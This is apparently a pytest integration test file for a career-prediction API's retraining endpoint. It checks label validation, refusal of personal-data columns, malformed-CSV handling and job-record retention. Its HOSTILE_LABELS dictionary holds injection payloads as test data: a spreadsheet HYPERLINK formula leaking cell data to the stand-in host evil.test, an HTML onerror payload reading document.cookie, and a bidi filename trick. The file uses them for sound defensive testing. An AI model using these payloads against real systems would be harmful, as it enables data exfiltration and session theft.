"""Hostile retraining data, through HTTP: labels that are not career names, personal and
identifier columns as the label, CSVs the reader cannot read, and what job records keep."""

import io
import json
import os
import stat
import time
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pandas as pd
import pytest
from fastapi.testclient import TestClient

from tests.api.test_registry import ADMIN, start, students_csv, wait
from tests.conftest import assert_error

pytestmark = pytest.mark.integration

HOSTILE_LABELS = {
    "formula": '=HYPERLINK("http://evil.test/?leak="&A1,"Click me")',
    "html": "<img src=x onerror=alert(document.cookie)>",
    "markdown": "Doctor\n# Injected heading\n| a | b |",
    "long": "A" * 5000,
    "bidi": "Doctor\u202eexe.tnemucod",
}
RULES = {
    "formula": "formula",
    "html": "markup",
    "markdown": "control_character",
    "long": "too_long",
    "bidi": "format_character",
}


@pytest.fixture
def admin(make_client: Any) -> TestClient:
    client: TestClient = make_client(admin_api_keys="admin-key")
    return client


def students(n: int = 300) -> pd.DataFrame:
    return pd.read_csv(io.BytesIO(students_csv(n=n)))


def post_csv(client: TestClient, frame: pd.DataFrame | bytes, **form: str) -> Any:
    data = frame if isinstance(frame, bytes) else frame.to_csv(index=False).encode()
    return client.post(
        "/api/v1/career/retrain",
        files={"file": ("data.csv", data, "text/csv")},
        data=form,
        headers=ADMIN,
    )


def served_careers(client: TestClient) -> set[str]:
    careers = {c["name"] for c in client.get("/api/v1/career/careers").json()["data"]}
    student = {"academic_scores": {"math": 90, "physics": 85}, "top_k": 25}
    predicted = client.post("/api/v1/career/predict", json=student).json()["data"]
    return careers | {r["career"]["name"] for r in predicted["recommendations"]}


def job_records(model_dir: Path) -> list[Path]:
    return sorted((model_dir / ".jobs").glob("*.json")) if (model_dir / ".jobs").is_dir() else []


def files_holding(roots: list[Path], needle: bytes) -> list[Path]:
    return [
        path
        for root in roots
        if root.exists()
        for path in root.rglob("*")
        if path.is_file() and needle in path.read_bytes()
    ]


# --- labels that are not career names -------------------------------------------------------


@pytest.mark.parametrize("kind", list(HOSTILE_LABELS))
def test_hostile_labels_are_refused_and_never_served(
    admin: TestClient, career_model_dir: Path, kind: str
) -> None:
    before = served_careers(admin)
    frame = students()
    # 30 students: enough for a career of its own had the label been accepted.
    frame.loc[frame.index[:30], "label"] = HOSTILE_LABELS[kind]

    error = assert_error(post_csv(admin, frame, force="true"), 422, "VALIDATION_ERROR")

    (detail,) = error["details"]
    assert detail["field"] == "label" and detail["rule"] == RULES[kind]
    assert detail["count"] == 30 and detail["rows"] == list(range(10))
    said = json.dumps(error)
    assert HOSTILE_LABELS[kind][:12] not in said and "HYPERLINK" not in said
    assert served_careers(admin) == before
    assert job_records(career_model_dir) == []  # refused before a job exists


def test_hostile_labels_are_refused_in_json_records(admin: TestClient) -> None:
    frame = students().rename(columns={"label": "career"})
    frame.loc[frame.index[:30], "career"] = HOSTILE_LABELS["markdown"]
    records = json.loads(frame.to_json(orient="records"))
    response = admin.post(
        "/api/v1/career/retrain",
        json={"records": records, "mapping": {"career": "label"}, "force": True},
        headers=ADMIN,
    )
    error = assert_error(response, 422, "VALIDATION_ERROR")
    assert error["details"][0]["field"] == "career"
    assert error["details"][0]["rule"] == "control_character"
    assert "Injected" not in json.dumps(error)


def test_an_email_label_column_is_refused_and_no_address_is_left_on_disk(
    admin: TestClient, career_model_dir: Path, tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    frame = students()
    # Six addresses, 50 students each: no identifier by count, careers by size.
    frame["contact"] = [f"pupil{i % 6}@example.test" for i in range(len(frame))]
    frame["notes"] = "x" * 4000  # over 1 MB in all: Starlette spools it into UPLOAD_DIR
    body = frame.drop(columns="label").to_csv(index=False).encode()
    assert len(body) > 1024 * 1024

    error = assert_error(
        post_csv(admin, body, mapping=json.dumps({"contact": "label"}), force="true"),
        422,
        "VALIDATION_ERROR",
    )
    assert "'contact'" in error["message"] and "e-mail" in error["message"]
    assert error["details"][0]["field"] == "contact" and error["details"][0]["rule"] == "email"

    # A column named as personal is refused by its name, whatever it holds.
    frame["email"] = frame.pop("contact")
    named = post_csv(admin, frame.drop(columns="label"), mapping='{"email": "label"}')
    error = assert_error(named, 422, "VALIDATION_ERROR")
    assert error["details"][0]["field"] == "mapping.email"

    assert "@example.test" not in json.dumps(error) + caplog.text
    roots = [career_model_dir, tmp_path / "uploads"]
    assert files_holding(roots, b"@example.test") == []
    assert job_records(career_model_dir) == []


def test_a_mostly_unique_id_column_as_label_is_refused(admin: TestClient) -> None:
    frame = students()
    frame["ref"] = [f"R{i:05d}" for i in range(len(frame))]
    response = post_csv(admin, frame.drop(columns="label"), mapping='{"ref": "label"}')
    error = assert_error(response, 422, "VALIDATION_ERROR")
    assert "'ref'" in error["message"] and "identifier" in error["message"]
    assert error["details"][0] == {
        "field": "ref",
        "rule": "identifier",
        "message": "more than half of the students have a label of their own",
        "distinct": 300,
        "students": 300,
    }


# --- CSVs the reader cannot read ------------------------------------------------------------


def test_cr_only_csv_is_malformed(admin: TestClient) -> None:
    csv = students().to_csv(index=False, lineterminator="\r").encode()
    error = assert_error(post_csv(admin, csv), 400, "MALFORMED_CSV")
    assert "CR" in error["message"] and error["details"] == [{"field": "file", "line": 1}]


def test_cr_separated_rows_do_not_slip_past_the_row_limit(
    make_client: Any, career_model_dir: Path
) -> None:
    client: TestClient = make_client(admin_api_keys="admin-key", max_training_rows=5000)
    frame = students(n=6000)
    header, *rows = frame.to_csv(index=False).splitlines()
    csv = (header + "\n" + "\r".join(rows) + "\r").encode()  # one LF: 6,000 rows as CR lines
    response = post_csv(client, csv)
    assert response.status_code in (400, 413), response.text
    assert response.json()["error"]["code"] in ("MALFORMED_CSV", "PAYLOAD_TOO_LARGE")
    assert job_records(career_model_dir) == []
    # The same rows with LF line endings are counted, and refused by the limit.
    assert_error(post_csv(client, frame), 413, "PAYLOAD_TOO_LARGE")


# --- job records ----------------------------------------------------------------------------


def _record(model_dir: Path, job_id: str, state: str, age_days: float) -> Path:
    when = (datetime.now(UTC) - timedelta(days=age_days)).isoformat(timespec="seconds")
    jobs = model_dir / ".jobs"
    jobs.mkdir(exist_ok=True)
    path = jobs / f"{job_id}.json"
    record = {
        "id": job_id,
        "state": state,
        "created_at": when,
        "updated_at": when,
        "rows": {"class_counts": {"Doctor": 12}},
    }
    path.write_text(json.dumps(record))
    path.chmod(0o644)  # as versions before RECORD_MODE wrote them
    return path


def test_expired_job_records_are_deleted_at_start_up_and_at_submit(
    make_client: Any, career_model_dir: Path
) -> None:
    old = _record(career_model_dir, "a" * 16, "rejected", age_days=31)
    recent = _record(career_model_dir, "b" * 16, "succeeded", age_days=29)

    client: TestClient = make_client(admin_api_keys="admin-key", retrain_job_retention_days=30)

    assert not old.exists()
    assert_error(client.get(f"/api/v1/career/retrain/{'a' * 16}", headers=ADMIN), 404, "NOT_FOUND")
    assert client.get(f"/api/v1/career/retrain/{'b' * 16}", headers=ADMIN).status_code == 200
    assert stat.S_IMODE(recent.stat().st_mode) == 0o600  # tightened at start-up

    # A record that expires while the service runs goes when the next job is submitted.
    later = _record(career_model_dir, "c" * 16, "failed", age_days=45)
    job = start(client, students_csv(n=300))
    assert not later.exists() and recent.exists()
    record = career_model_dir / ".jobs" / f"{job['id']}.json"
    assert stat.S_IMODE(record.stat().st_mode) == 0o600  # the worker's: the next test


def test_real_career_names_train_and_the_card_escapes_them(
    admin: TestClient, career_model_dir: Path
) -> None:
    frame = students(n=600)
    common = frame["label"].value_counts().index[:3]  # careers kept: 10+ students each
    names = dict(zip(common, ["Research | Development", "Ingénieur", "C++ Developer"], strict=True))
    frame["label"] = frame["label"].replace(names)

    job = wait(admin, start(admin, frame.to_csv(index=False).encode(), force="true")["id"])

    assert job["state"] == "succeeded" and job["activated"] is True, job
    assert set(names.values()) <= set(job["rows"]["class_counts"])
    deadline = time.monotonic() + 10
    while admin.get("/api/v1/career/model").json()["data"]["version"] != job["candidate_version"]:
        assert time.monotonic() < deadline, "the new version was not served"
        time.sleep(0.1)
    assert set(names.values()) <= served_careers(admin)
    card = admin.get("/api/v1/career/model").json()["data"]["model_card"]
    assert r"| Research \| Development |" in card
    assert r"| C\+\+ Developer |" in card and "| Ingénieur |" in card
    on_disk = career_model_dir / job["candidate_version"] / "MODEL_CARD.md"
    assert on_disk.read_text(encoding="utf-8") == card
    record = career_model_dir / ".jobs" / f"{job['id']}.json"
    assert stat.S_IMODE(os.stat(record).st_mode) == 0o600
